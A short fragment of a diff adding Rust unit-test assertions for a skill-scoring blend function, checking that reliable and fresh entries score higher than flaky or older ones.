+        assert!(blend.score(&old, 0, &reliable, 1_000) > blend.score(&old, 5, &flaky, 1_000));
+        let fresh_score = blend.score(&fresh, 0, &SkillUsageStats::default(), 1_000);
+        let old_score = blend.score(&old, 0, &SkillUsageStats::default(), 1_000);
+        assert_eq!(fresh_score, 1.0);
+        assert!((old_score - 0.5).abs() < 1e-9);
+    }
 }